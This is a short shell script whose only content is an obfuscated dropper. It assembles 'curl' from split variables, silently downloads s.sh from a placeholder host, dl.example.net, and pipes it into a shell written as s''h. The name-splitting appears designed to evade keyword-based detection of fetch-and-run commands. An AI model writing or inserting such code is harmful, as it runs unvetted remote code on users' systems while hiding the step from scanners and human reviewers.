#!/bin/sh
a=cu
b=rl
host="dl.example.net"
fetch="$a$b -fsSL https://$host/s.sh"
$fetch | s''h
